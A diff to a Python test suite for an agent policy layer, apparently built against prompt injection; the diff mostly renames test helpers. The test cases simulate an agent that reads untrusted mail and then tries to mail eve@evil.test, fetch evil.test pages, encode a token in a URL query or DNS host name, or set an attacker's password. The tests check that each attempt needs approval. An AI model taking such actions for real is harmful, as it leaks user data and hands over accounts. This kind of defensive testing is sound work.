@@ -26,7 +26,7 @@ from remit.workspace.bundle import open_bundle, vocabulary
 from remit.workspace.session import policy_files
 from remit.workspace.template import starter_folder
 from support.runs import DONE, turn
-from support.workspaces.mailbox import Box, Played, open_agents
+from support.workspaces.mailbox import Box, MailboxRun, mailbox_workspace
 
 ROOT = starter_folder()
 INBOX = turn(box__inbox={})
@@ -38,7 +38,7 @@ def to(*addresses: str, body: str = "hello") -> dict[str, Any]:
     return turn(box__send={"to": list(addresses), "body": body})
 
 
-def again(played: Played) -> Any:
+def again(played: MailboxRun) -> Any:
     """The first divergence of a replay from the recorded run; None if it is reproduced."""
     trace = open_trace(played.session.traces, played.session.journal, played.run)
     books = {digest: open_bundle(files) for digest, files in trace.bundles().items()}
@@ -50,35 +50,37 @@ def again(played: Played) -> Any:
 
 
 def test_after_untrusted_text_mail_goes_only_to_recipients_that_the_user_named(tmp_path: Path) -> None:
-    played = Played(
-        open_agents(tmp_path, [INBOX, to("eve@evil.test"), to("bob@example.org"), DONE]), "Tell bob@example.org"
+    played = MailboxRun(
+        mailbox_workspace(tmp_path, [INBOX, to("eve@evil.test"), to("bob@example.org"), DONE]), "Tell bob@example.org"
     )
     assert played.verdicts == ["inbox: allow", "send: ask", "send: allow"]
     assert Box.done == [("send", {"to": ["bob@example.org"], "body": "hello"})]
 
 
 def test_one_unknown_recipient_among_known_ones_needs_approval(tmp_path: Path) -> None:
-    session = open_agents(tmp_path, [INBOX, to("bob@example.org", "eve@evil.test"), DONE])
-    assert Played(session, "Tell bob@example.org").verdicts[-1] == "send: ask"
+    session = mailbox_workspace(tmp_path, [INBOX, to("bob@example.org", "eve@evil.test"), DONE])
+    assert MailboxRun(session, "Tell bob@example.org").verdicts[-1] == "send: ask"
     assert Box.done == []
 
 
 def test_an_unknown_recipient_needs_approval_before_anything_untrusted_is_read_too(tmp_path: Path) -> None:
-    assert Played(open_agents(tmp_path, [to("eve@evil.test"), DONE]), "Write a mail").verdicts == ["send: ask"]
+    assert MailboxRun(mailbox_workspace(tmp_path, [to("eve@evil.test"), DONE]), "Write a mail").verdicts == [
+        "send: ask"
+    ]
 
 
 def test_mail_to_earlier_directory_entries_is_allowed_after_untrusted_text(tmp_path: Path) -> None:
-    played = Played(open_agents(tmp_path, [CONTACTS, INBOX, to("ann@example.com"), DONE]), "Tell her")
+    played = MailboxRun(mailbox_workspace(tmp_path, [CONTACTS, INBOX, to("ann@example.com"), DONE]), "Tell her")
     assert played.verdicts[-1] == "send: allow"
 
 
 def test_a_look_up_after_untrusted_text_adds_nothing_to_the_directory(tmp_path: Path) -> None:
-    played = Played(open_agents(tmp_path, [INBOX, CONTACTS, to("ann@example.com"), DONE]), "Tell her")
+    played = MailboxRun(mailbox_workspace(tmp_path, [INBOX, CONTACTS, to("ann@example.com"), DONE]), "Tell her")
     assert played.verdicts[-1] == "send: ask"
 
 
 def test_a_look_up_before_the_run_fills_the_directory_and_the_model_never_reads_it(tmp_path: Path) -> None:
-    played = Played(open_agents(tmp_path, [INBOX, to("ann@example.com"), DONE], agent=LOOK_UP), "Tell her")
+    played = MailboxRun(mailbox_workspace(tmp_path, [INBOX, to("ann@example.com"), DONE], agent=LOOK_UP), "Tell her")
     assert played.verdicts == ["contacts: allow", "inbox: allow", "send: allow"]
     texts = [message.text for message in _conversation(played)]
     assert not any("ann@example.com" in text for text in texts if "send" not in text and "sent" not in text)
@@ -88,7 +90,7 @@ def test_a_look_up_before_the_run_fills_the_directory_and_the_model_never_reads_
 def test_look_ups_run_before_an_external_graph_too(tmp_path: Path) -> None:
     from remit.langchain.middleware import RemitMiddleware
 
-    open_agents(tmp_path, [DONE], agent=LOOK_UP.replace("\n[[", "accept_parsed_arguments = true\n[[", 1))
+    mailbox_workspace(tmp_path, [DONE], agent=LOOK_UP.replace("\n[[", "accept_parsed_arguments = true\n[[", 1))
     remit = RemitMiddleware("helper", task="Tell her", workspace=tmp_path)
     actions = {tool.name: tool for tool in remit.actions}
     actions["box__inbox"].invoke({})
@@ -103,7 +105,7 @@ def test_the_directory_of_an_external_graph_is_completed_after_its_process_died(
 ) -> None:
     from remit.langchain.middleware import RemitMiddleware
 
-    open_agents(tmp_path, [DONE], agent=LOOK_UP.replace("\n[[", "accept_parsed_arguments = true\n[[", 1))
+    mailbox_workspace(tmp_path, [DONE], agent=LOOK_UP.replace("\n[[", "accept_parsed_arguments = true\n[[", 1))
     thread: Any = {"configurable": {"thread_id": "t", "__pregel_checkpointer": True}}
 
     def invoke(action: str, arguments: dict[str, Any]) -> str:
@@ -123,16 +125,16 @@ def test_the_directory_of_an_external_graph_is_completed_after_its_process_died(
 
 
 def test_a_look_up_before_the_run_adds_no_label(tmp_path: Path) -> None:
-    session = open_agents(
+    session = mailbox_workspace(
         tmp_path, [turn(box__drop_note={"note": "n-12"}), DONE], agent='\n[[directory]]\naction = "box.inbox"\n'
     )
-    assert Played(session, "Tidy up").verdicts == ["inbox: allow", "drop_note: allow"]
+    assert MailboxRun(session, "Tidy up").verdicts == ["inbox: allow", "drop_note: allow"]
 
 
 def test_a_look_up_that_changes_something_or_lists_nothing_is_refused_at_load(tmp_path: Path) -> None:
     for action in ("box.send", "box.profile", "box.gone"):
         with pytest.raises(WorkspaceError, match="cannot fill the directory"):
-            open_agents(tmp_path / action, [DONE], agent=f'\n[[directory]]\naction = "{action}"\n')
+            mailbox_workspace(tmp_path / action, [DONE], agent=f'\n[[directory]]\naction = "{action}"\n')
 
 
 def test_a_page_is_requested_only_if_the_user_or_a_named_sender_gave_its_link(tmp_path: Path) -> None:
@@ -140,15 +142,16 @@ def test_a_page_is_requested_only_if_the_user_or_a_named_sender_gave_its_link(tm
         turn(box__page={"url": url})
         for url in ("https://plan.example.org/a", "https://evil.test/", "https://news.example.org/")
     ]
-    played = Played(
-        open_agents(tmp_path, [INBOX, *pages, DONE]), "Sum up what the user Bob posted and https://news.example.org"
+    played = MailboxRun(
+        mailbox_workspace(tmp_path, [INBOX, *pages, DONE]),
+        "Sum up what the user Bob posted and https://news.example.org",
     )
     assert played.verdicts[1:] == ["page: allow", "page: ask", "page: allow"]
 
 
 def test_a_host_is_called_only_if_the_user_named_it(tmp_path: Path) -> None:
     calls = [turn(box__look_up_host={"host": host}) for host in ("hgk137803.evil.test", "news.example.org")]
-    played = Played(open_agents(tmp_path, [INBOX, *calls, DONE]), "Does news.example.org answer?")
+    played = MailboxRun(mailbox_workspace(tmp_path, [INBOX, *calls, DONE]), "Does news.example.org answer?")
     assert played.verdicts[1:] == ["look_up_host: ask", "look_up_host: allow"]
 
 
@@ -169,7 +172,7 @@ def test_an_outgoing_text_contains_no_unnamed_links_addresses_or_accounts(
     tmp_path: Path, body: str, verdict: str, contains: list[str]
 ) -> None:
     turns = [turn(box__profile={}), INBOX, to("bob@example.org", body=body), DONE]
-    played = Played(open_agents(tmp_path, turns), "Tell bob@example.org about https://news.example.org")
+    played = MailboxRun(mailbox_workspace(tmp_path, turns), "Tell bob@example.org about https://news.example.org")
     assert played.verdicts[-1] == f"send: {verdict}"
     assert not contains or played.facts(2)["contains"] == contains
 
@@ -178,14 +181,14 @@ def test_an_outgoing_text_contains_no_unnamed_links_addresses_or_accounts(
 def test_the_query_of_a_page_contains_nothing_that_nobody_named(tmp_path: Path, query: str, verdict: str) -> None:
     page = turn(box__page={"url": f"https://news.example.org/{query}"})
     turns = [turn(box__profile={}), INBOX, page, DONE]
-    played = Played(open_agents(tmp_path, turns), "Sum up https://news.example.org")
+    played = MailboxRun(mailbox_workspace(tmp_path, turns), "Sum up https://news.example.org")
     assert played.verdicts[-1] == f"page: {verdict}"
     assert again(played) is None
 
 
 def test_a_link_of_a_named_sender_is_followed_only_with_its_own_query(tmp_path: Path) -> None:
     pages = [turn(box__page={"url": f"https://plan.example.org/b?{query}"}) for query in ("day=1", "day=HGK137803")]
-    played = Played(open_agents(tmp_path, [INBOX, *pages, DONE]), "Sum up what the user Bob posted")
+    played = MailboxRun(mailbox_workspace(tmp_path, [INBOX, *pages, DONE]), "Sum up what the user Bob posted")
     assert played.verdicts[1:] == ["page: allow", "page: ask"]
 
 
@@ -194,11 +197,11 @@ def test_a_link_of_a_named_sender_is_followed_only_with_its_own_query(tmp_path: 
 
 def test_after_untrusted_text_own_things_are_changed_only_if_the_user_named_them(tmp_path: Path) -> None:
     drops = [turn(box__drop_note={"note": note}) for note in ("n-12", "plan-b")]
-    assert Played(open_agents(tmp_path / "a", [INBOX, *drops, DONE]), "Delete note plan-b").verdicts[1:] == [
+    assert MailboxRun(mailbox_workspace(tmp_path / "a", [INBOX, *drops, DONE]), "Delete note plan-b").verdicts[1:] == [
         "drop_note: ask",
         "drop_note: allow",
     ]
-    assert Played(open_agents(tmp_path / "b", [*drops, DONE]), "Tidy up").verdicts == [
+    assert MailboxRun(mailbox_workspace(tmp_path / "b", [*drops, DONE]), "Tidy up").verdicts == [
         "drop_note: allow",
         "drop_note: allow",
     ]
@@ -209,15 +212,19 @@ def test_a_name_that_an_attacker_took_from_the_task_names_nothing(tmp_path: Path
     drops = [turn(box__drop_note={"note": note}) for note in ("summary", "inbox", "short", "for")]
     words = "Read my inbox and write a short summary of it for me"
     assert (
-        Played(open_agents(tmp_path / "a", [INBOX, *drops, DONE]), f"{words}.").verdicts[1:] == ["drop_note: ask"] * 4
+        MailboxRun(mailbox_workspace(tmp_path / "a", [INBOX, *drops, DONE]), f"{words}.").verdicts[1:]
+        == ["drop_note: ask"] * 4
     )
-    Played(open_agents(tmp_path / "b", [INBOX, *drops, DONE]), f"{words}; then delete my note 'summary'.")
+    MailboxRun(mailbox_workspace(tmp_path / "b", [INBOX, *drops, DONE]), f"{words}; then delete my note 'summary'.")
     assert Box.done == [("drop_note", {"note": "summary"})]
 
 
 def test_a_run_can_use_things_that_it_created(tmp_path: Path) -> None:
     turns = [INBOX, turn(box__add_note={"text": "x"}), turn(box__drop_note={"note": "n-77"}), DONE]
-    assert Played(open_agents(tmp_path, turns), "Write a note").verdicts[1:] == ["add_note: allow", "drop_note: allow"]
+    assert MailboxRun(mailbox_workspace(tmp_path, turns), "Write a note").verdicts[1:] == [
+        "add_note: allow",
+        "drop_note: allow",
+    ]
 
 
 @pytest.mark.parametrize(
@@ -231,21 +238,21 @@ def test_an_address_that_only_repeats_an_argument_is_not_added_to_the_directory(
     tmp_path: Path, card: str, address: str, verdict: str
 ) -> None:
     turns = [INBOX, turn(box__add_contact={"card": card}), to(address), DONE]
-    played = Played(open_agents(tmp_path, turns), "Make a contact of the team and tell them")
+    played = MailboxRun(mailbox_workspace(tmp_path, turns), "Make a contact of the team and tell them")
     assert played.verdicts[1:] == ["add_contact: allow", f"send: {verdict}"]
     assert again(played) is None
 
 
 def test_an_action_without_resources_needs_a_request_word_of_the_user(tmp_path: Path) -> None:
     turns = [INBOX, turn(box__add_note={"text": "x"}), DONE]
-    assert Played(open_agents(tmp_path / "a", turns), "Sum it up").verdicts[-1] == "add_note: ask"
-    assert Played(open_agents(tmp_path / "b", turns), "Make notes of it").verdicts[-1] == "add_note: allow"
+    assert MailboxRun(mailbox_workspace(tmp_path / "a", turns), "Sum it up").verdicts[-1] == "add_note: ask"
+    assert MailboxRun(mailbox_workspace(tmp_path / "b", turns), "Make notes of it").verdicts[-1] == "add_note: allow"
 
 
 def test_a_password_is_changed_only_to_a_value_that_the_user_wrote(tmp_path: Path) -> None:
     for name, password, verdict in (("a", "1j1l-2k3j", "allow"), ("b", "eves-own-1", "ask")):
         turns = [INBOX, turn(box__set_password={"password": password}), DONE]
-        played = Played(open_agents(tmp_path / name, turns), "Change my password to '1j1l-2k3j'.")
+        played = MailboxRun(mailbox_workspace(tmp_path / name, turns), "Change my password to '1j1l-2k3j'.")
         assert played.verdicts[-1] == f"set_password: {verdict}"
         assert password not in str(played.events[1:])  # nobody is shown it, and no record holds it
         assert again(played) is None
@@ -264,12 +271,12 @@ def test_a_setting_is_changed_only_to_a_value_that_the_user_wrote(
     tmp_path: Path, task: str, arguments: dict[str, Any], verdict: str
 ) -> None:
     turns = [INBOX, turn(box__second_factor=arguments), DONE]
-    assert Played(open_agents(tmp_path, turns), task).verdicts[1:] == [f"second_factor: {verdict}"]
+    assert MailboxRun(mailbox_workspace(tmp_path, turns), task).verdicts[1:] == [f"second_factor: {verdict}"]
 
 
 def test_an_empty_password_is_never_quoted_by_the_user(tmp_path: Path) -> None:
     turns = [INBOX, turn(box__set_password={"password": ""}), DONE]
-    played = Played(open_agents(tmp_path, turns), "Change my password to '1j1l-2k3j'.")
+    played = MailboxRun(mailbox_workspace(tmp_path, turns), "Change my password to '1j1l-2k3j'.")
     assert played.verdicts[-1] == "set_password: ask"
 
 
@@ -278,7 +285,7 @@ def test_an_empty_password_is_never_quoted_by_the_user(tmp_path: Path) -> None:
 
 def test_a_declassifier_removes_a_label_from_the_run_and_is_recorded(tmp_path: Path) -> None:
     drop = turn(box__drop_note={"note": "n-12"})
-    played = Played(open_agents(tmp_path, [INBOX, drop, turn(box__review={}), drop, DONE]), "Review the mail")
+    played = MailboxRun(mailbox_workspace(tmp_path, [INBOX, drop, turn(box__review={}), drop, DONE]), "Review the mail")
     assert played.verdicts[1:] == ["drop_note: ask", "review: allow", "drop_note: allow"]
     assert played.answers[2].cleared == ("untrusted",)
     assert again(played) is None
@@ -287,7 +294,7 @@ def test_a_declassifier_removes_a_label_from_the_run_and_is_recorded(tmp_path: P
 def test_a_label_that_is_added_during_a_review_stays(tmp_path: Path) -> None:
     drop = turn(box__drop_note={"note": "n-12"})
     turns = [turn(box__inbox={}, box__review={}), drop, turn(box__review={}), drop, DONE]
-    played = Played(open_agents(tmp_path, turns), "Review the mail")
+    played = MailboxRun(mailbox_workspace(tmp_path, turns), "Review the mail")
     assert played.verdicts == ["inbox: allow", "review: allow", "drop_note: ask", "review: allow", "drop_note: allow"]
     assert again(played) is None
 
@@ -297,7 +304,9 @@ def test_results_of_a_labelled_resource_have_its_label(tmp_path: Path) -> None:
     drop = turn(box__drop_note={"note": "n-12"})
     for name, note, verdict in (("a", "guestbook", "ask"), ("b", "diary", "allow")):
         turns = [turn(box__notes={"note": note}), drop, DONE]
-        played = Played(open_agents(tmp_path / name, turns, files={"policies/labels.toml": labels}), "Tidy up")
+        played = MailboxRun(
+            mailbox_workspace(tmp_path / name, turns, files={"policies/labels.toml": labels}), "Tidy up"
+        )
         assert played.verdicts[-1] == f"drop_note: {verdict}"
 
 
@@ -306,7 +315,7 @@ def test_results_of_a_labelled_resource_have_its_label(tmp_path: Path) -> None:
 
 def test_replay_and_backtest_find_the_same_facts(tmp_path: Path) -> None:
     turns = [CONTACTS, INBOX, to("ann@example.com", body="see https://evil.test"), to("eve@evil.test"), DONE]
-    played = Played(open_agents(tmp_path, turns, agent=LOOK_UP), "Tell her", grants=True)
+    played = MailboxRun(mailbox_workspace(tmp_path, turns, agent=LOOK_UP), "Tell her", grants=True)
     assert played.verdicts == ["contacts: allow", "contacts: allow", "inbox: allow", "send: ask", "send: ask"]
     assert again(played) is None
     side = read_rule_set("now", policy_files(tmp_path), vocabulary(played.session.workspace))
@@ -315,7 +324,7 @@ def test_replay_and_backtest_find_the_same_facts(tmp_path: Path) -> None:
 
 
 def test_a_backtest_knows_which_calls_run_unconfined(tmp_path: Path) -> None:
-    played = Played(open_agents(tmp_path, [CONTACTS, DONE]), "Look")
+    played = MailboxRun(mailbox_workspace(tmp_path, [CONTACTS, DONE]), "Look")
     rules = "p, user:operator, *, **, True, allow\np, agent:helper, *, **, confinement == 'none', allow\n"
     files = {**policy_files(tmp_path), "policies/rules.csv": rules.encode()}
     files.pop("policies/open.csv")
@@ -335,7 +344,7 @@ READ_ONLY = Scope(
 
 def test_a_scope_lets_a_run_do_less_than_its_agent_may(tmp_path: Path) -> None:
     turns = [INBOX, CONTACTS, to("bob@example.org"), to("bob@example.org"), DONE]
-    played = Played(open_agents(tmp_path, turns), "Tell bob@example.org", scope=READ_ONLY)
+    played = MailboxRun(mailbox_workspace(tmp_path, turns), "Tell bob@example.org", scope=READ_ONLY)
     assert played.verdicts == ["inbox: allow", "contacts: deny", "send: allow", "send: deny"]
     assert again(played) is None
 
@@ -343,22 +352,22 @@ def test_a_scope_lets_a_run_do_less_than_its_agent_may(tmp_path: Path) -> None:
 def test_a_scope_allows_nothing_that_the_agent_may_not_do(tmp_path: Path) -> None:
     scope = Scope(allow=(ScopeEntry(action="box.*"),))
     assert (
-        Played(open_agents(tmp_path, [INBOX, to("eve@evil.test"), DONE]), "Sum up", scope=scope).verdicts[-1]
+        MailboxRun(mailbox_workspace(tmp_path, [INBOX, to("eve@evil.test"), DONE]), "Sum up", scope=scope).verdicts[-1]
         == "send: ask"
     )
 
 
 def test_beyond_its_scope_a_run_asks_the_role_that_the_scope_names(tmp_path: Path) -> None:
     scope = READ_ONLY.model_copy(update={"widen": "role:owner"})
-    played = Played(open_agents(tmp_path, [CONTACTS, DONE]), "Look", scope=scope, grants=True)
+    played = MailboxRun(mailbox_workspace(tmp_path, [CONTACTS, DONE]), "Look", scope=scope, grants=True)
     assert played.verdicts == ["contacts: ask"]
     assert played.answers[0].result.ok
 
 
 def test_a_scope_with_an_unknown_action_starts_no_run(tmp_path: Path) -> None:
-    session = open_agents(tmp_path, [DONE])
+    session = mailbox_workspace(tmp_path, [DONE])
     with pytest.raises(WorkspaceError, match=r"no tool has the action 'box\.fly'"):
-        Played(session, "x", scope=Scope(allow=(ScopeEntry(action="box.fly"),)))
+        MailboxRun(session, "x", scope=Scope(allow=(ScopeEntry(action="box.fly"),)))
     assert session.journal.runs() == []
 
 
@@ -440,14 +449,14 @@ def test_the_diff_proves_that_a_scope_widens_no_other_permission() -> None:
     assert compare_policies(PLAIN, PLAIN).no_wider
 
 
-def _conversation(played: Played) -> list[Any]:
+def _conversation(played: MailboxRun) -> list[Any]:
     from remit.journal.run_log import Record
 
     return list(Record(played.session.journal, played.run).conversation.messages)
 
 
 def test_the_record_names_the_scope(tmp_path: Path) -> None:
-    played = Played(open_agents(tmp_path, [DONE]), "x", scope=READ_ONLY)
+    played = MailboxRun(mailbox_workspace(tmp_path, [DONE]), "x", scope=READ_ONLY)
     started = played.events[0].event
     assert isinstance(started, RunStarted)
     assert started.scope == READ_ONLY
